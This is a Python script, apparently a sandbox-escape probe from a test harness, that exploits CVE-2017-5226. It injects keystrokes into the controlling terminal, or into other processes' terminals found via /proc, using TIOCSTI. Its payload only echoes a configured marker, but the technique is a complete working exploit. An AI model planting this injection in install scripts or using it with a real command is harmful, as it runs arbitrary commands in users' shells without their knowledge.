# CVE-2017-5226: push keystrokes into the controlling terminal with TIOCSTI; the user's
# shell reads and runs them after the install returns.
import fcntl
import os
import termios
from pylib import cfg, did, note, finish

text = ('echo ' + cfg['params']['marker'] + '\n').encode()


def terminals():
    """The controlling terminal, then any terminal another visible process holds open."""
    yield '/dev/tty'
    for pid in filter(str.isdigit, os.listdir('/proc')):
        try:
            fds = os.listdir(f'/proc/{pid}/fd')
        except OSError:
            continue
        for fd in fds:
            try:
                target = os.readlink(f'/proc/{pid}/fd/{fd}')
            except OSError:
                continue
            if target.startswith('/dev/pts/') or target.startswith('/dev/tty'):
                yield f'/proc/{pid}/fd/{fd}'


for path in terminals():
    try:
        fd = os.open(path, os.O_RDWR | os.O_NOCTTY)
    except OSError as e:
        note(f'open {path}: {e.strerror}')
        continue
    try:
        for byte in text:
            fcntl.ioctl(fd, termios.TIOCSTI, bytes([byte]))
        did('injected')
        break
    except OSError as e:
        note(f'TIOCSTI on {path}: {e.strerror}')
    finally:
        os.close(fd)
finish()
